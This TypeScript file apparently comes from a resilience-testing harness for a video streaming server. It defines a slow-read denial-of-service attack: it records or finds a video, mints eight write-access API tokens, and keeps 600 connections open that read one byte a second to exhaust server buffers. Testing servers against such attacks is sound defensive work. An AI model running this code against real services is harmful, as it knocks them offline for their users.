import type { Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { Recording } from '../../camera/recorded-camera';
import { holdPeers, requestHead } from '../../network/tcp-peers';
import { callApi } from '../api/call-api';
import type { Attack, AttackTarget } from '../attack';

const count = 600;
/** Each API token has places of its own: these have more than their network. */
const apiTokens = 8;
/** Several times what the system's buffers take of a connection that nobody reads. */
const recorded = { seconds: 8, bitrateKbps: 24_000 };

/** A recording of the attacker's own that is read on many connections, each of which takes a byte a second. */
export const slowReaders: Attack = {
  name: `a recording on ${count} connections that read a byte a second`,
  async run(target, signal) {
    const id = (await findRecording(target)) ?? (await record(target, signal));
    const urls = await Promise.all(Array.from({ length: apiTokens }, () => makeDownload(target, id)));
    const sockets = new Set<Socket>();
    let asked = 0;
    await holdPeers(target.baseUrl, signal, {
      count,
      everyMs: 1_000,
      open: (peers) => {
        const socket = peers.open(requestHead(`GET ${urls[asked++ % urls.length]}`)).pause();
        sockets.add(socket);
        socket.once('close', () => sockets.delete(socket));
      },
      onRound: () => {
        for (const socket of sockets) socket.read(1);
      },
    });
  },
};

async function findRecording(target: AttackTarget): Promise<string | undefined> {
  const events = (await callApi(target, 'GET /events')) ?? [];
  const all = await Promise.all(
    events.map(({ id }) => callApi(target, 'GET /events/{id}/recordings', { params: { id } })),
  );
  return all.flat().find((recording) => recording !== undefined)?.id;
}

/** Records the attacker's own camera. */
async function record(target: AttackTarget, signal: AbortSignal): Promise<string> {
  const { ingestPort, streamKey } = target;
  const streams = (await callApi(target, 'GET /streams')) ?? [];
  const id = streams.find(({ attributes }) => attributes.stream_key === streamKey)?.id ?? '';
  const { seconds, bitrateKbps } = recorded;
  const camera = await Recording.make({ width: 640, height: 360, fps: 25, gopSeconds: 1, bitrateKbps });
  const stop = camera.play(`srt://127.0.0.1:${ingestPort}?mode=caller&streamid=${streamKey}`);
  try {
    await callApi(target, 'POST /streams/{id}/recording', { params: { id } });
    await sleep(seconds * 1_000, undefined, { signal });
    await callApi(target, 'DELETE /streams/{id}/recording', { params: { id } });
  } finally {
    stop();
    await camera.remove();
  }
  const made = await findRecording(target);
  if (made === undefined) throw new Error('the attacker’s camera was not recorded');
  return made;
}

/** The address of a download by an API token of its own. */
async function makeDownload(target: AttackTarget, id: string): Promise<string> {
  const body = { api_token: { name: 'Reader', access: 'write', expires_at: null } } as const;
  const made = await callApi(target, 'POST /api_tokens', { body });
  const reader = { ...target, token: made?.attributes.token ?? '' };
  const download = await callApi(reader, 'POST /recordings/{id}/download', { params: { id } });
  if (!download) throw new Error('the recording has no download');
  return download.url;
}
